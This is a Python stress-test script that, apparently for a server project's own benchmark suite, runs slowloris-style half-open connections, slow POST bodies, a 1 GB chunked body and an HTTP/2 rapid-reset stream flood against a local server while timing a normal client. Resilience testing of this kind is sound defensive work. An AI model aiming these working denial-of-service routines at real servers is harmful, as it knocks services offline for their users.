#!/usr/bin/env python3
"""Attacks a running server, next to a good client whose waits are printed.

usage: bench/abuse.py PORT    (start it first: ./sluice serve --http-port PORT)
"""

import http.client
import socket
import struct
import sys
import threading
import time

CONNECTIONS = 5_000
SLOW_BODIES = 2_000
RESETS = 100_000
GIGABYTE = 1 << 30


class GoodClient(threading.Thread):
    """Asks one thing after the other until it is stopped."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port = port
        self.waits = []
        self.errors = []
        self.over = threading.Event()

    def run(self):
        client = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
        while not self.over.is_set() or len(self.waits) < 1_000:
            started = time.perf_counter()
            try:
                client.request("GET", "/v1/keys/demo/good")
                answer = client.getresponse()
                answer.read()
                if answer.status != 200:
                    self.errors.append(answer.status)
            except (OSError, http.client.HTTPException) as failure:
                self.errors.append(repr(failure))
                client = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
            self.waits.append(time.perf_counter() - started)
            time.sleep(0.002)


def connect(port):
    return socket.create_connection(("127.0.0.1", port))


def send(sock, data):
    """Whether it went out; a server that hung up is what we came to see."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def ended(sock):
    sock.setblocking(False)
    try:
        return sock.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def half_open(port):
    sockets = [connect(port) for _ in range(CONNECTIONS)]
    for i, sock in enumerate(sockets):
        send(sock, b"GET /healthz HTTP/1.1\r\nHo" if i % 2 == 0 else b"PRI")
    time.sleep(8)
    return f"{sum(map(ended, sockets))} of {CONNECTIONS} half-open connections cut off"


def slow_bodies(port):
    sockets = [connect(port) for _ in range(SLOW_BODIES)]
    head = b"POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
    for sock in sockets:
        send(sock, head)
    for _ in range(15):
        for sock in sockets:
            send(sock, b" ")
        time.sleep(1)
    return f"{SLOW_BODIES} bodies at a byte a second"


def huge_body(port):
    sock = connect(port)
    send(sock, b"POST /v1/check HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    sent = 0
    while sent < GIGABYTE and send(sock, chunk):
        sent += 0x10000
    return f"a body of 1 GB, cut off after {sent} bytes"


def resets(port):
    def frame(kind, flags, stream, payload=b""):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    get_root = bytes([0x82, 0x86, 0x84, 0x41, 1]) + b"x"
    sent = connections = 0
    while sent < RESETS:
        connections += 1
        sock = connect(port)
        send(sock, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        stream = 1
        while sent < RESETS and send(sock, frame(1, 5, stream, get_root) + frame(3, 0, stream, struct.pack(">I", 8))):
            sent += 1
            stream += 2
        sock.close()
    return f"{sent} streams opened and reset, over {connections} connections"


def main(port):
    for attack in (half_open, slow_bodies, huge_body, resets):
        good = GoodClient(port)
        good.start()
        said = attack(port)
        good.over.set()
        good.join()
        waits = sorted(good.waits)
        p50, p99, p999 = (1_000 * waits[int(len(waits) * share)] for share in (0.5, 0.99, 0.999))
        print(
            f"{said}: the good client asked {len(waits)} times, {len(good.errors)} errors, "
            f"p50 {p50:.1f} ms, p99 {p99:.1f} ms, p99.9 {p999:.1f} ms, longest {1_000 * waits[-1]:.0f} ms"
        )
        if good.errors:
            sys.exit(f"errors: {good.errors[:5]}")


if __name__ == "__main__":
    if len(sys.argv) != 2 or not sys.argv[1].isdigit():
        sys.exit(__doc__)
    main(int(sys.argv[1]))
